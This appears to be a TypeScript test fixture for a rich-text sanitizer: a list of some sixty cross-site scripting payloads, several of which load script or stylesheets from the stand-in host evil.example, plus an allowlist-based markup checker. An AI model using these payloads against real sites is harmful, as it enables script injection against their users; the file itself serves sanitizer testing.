import { Parser } from "htmlparser2";

/** Known XSS payloads. */
export const richTextPayloads = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<script/x>alert(1)</script>",
  "<script\n>alert(1)</script\n>",
  "<img src=x onerror=alert(1)>",
  "<img/src='x'/onerror=alert(1)>",
  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
  "<img src=javascript:alert(1)>",
  "![x](javascript:alert(1))",
  '![x](https://example.com/a.png"onerror="alert(1))',
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  '<svg><a xlink:href="javascript:alert(1)"><text y=1>x</text></a></svg>',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  "<iframe src=javascript:alert(1)></iframe>",
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  "<object data=javascript:alert(1)></object>",
  "<embed src=data:text/html,<script>alert(1)</script>>",
  "<body onload=alert(1)>",
  "<details open ontoggle=alert(1)>x</details>",
  "<video><source onerror=alert(1)></video>",
  "<audio src=x onerror=alert(1)>",
  "<input autofocus onfocus=alert(1)>",
  "<select autofocus onfocus=alert(1)>",
  "<textarea autofocus onfocus=alert(1)>",
  "<keygen autofocus onfocus=alert(1)>",
  "<marquee onstart=alert(1)>x</marquee>",
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  "<isindex type=image src=1 onerror=alert(1)>",
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="https://example.com" onclick="alert(1)">x</a>',
  "[x](javascript:alert(1))",
  "[x](<javascript:alert(1)>)",
  "[x](&#x6A;avascript:alert(1))",
  '[x](https://example.com "onmouseover=alert(1)")',
  "<javascript:alert(1)>",
  "[x]: javascript:alert(1)\n\n[x]",
  '<p style="background:url(javascript:alert(1))">x</p>',
  "<style>@import 'https://evil.example/x.css';</style>",
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "<template><img src=x onerror=alert(1)></template>",
  "<!--<img src=--><img src=x onerror=alert(1)//>",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<title><img src=x onerror=alert(1)></title>",
  "`<img src=x onerror=alert(1)>`",
  "```html\n<script>alert(1)</script>\n```",
  "<p id=location name=cookie>clobbered</p>",
];

/** Tags, attributes and addresses that rich text must not contain. */
export function foreignMarkup(html: string): string[] {
  const foreign: string[] = [];
  const parser = new Parser({
    onopentag(name, attributes) {
      if (!["p", "br", "strong", "em", "ol", "ul", "li", "a", "h3", "blockquote"].includes(name)) foreign.push(name);
      for (const [key, value] of Object.entries(attributes)) {
        if (name !== "a" || !["href", "rel"].includes(key)) foreign.push(`${name} ${key}`);
        if (key === "href" && !/^https?:\/\/[a-z]/i.test(value)) foreign.push(value);
      }
    },
    oncomment: (text) => void foreign.push(text),
  });
  parser.end(html);
  return foreign;
}
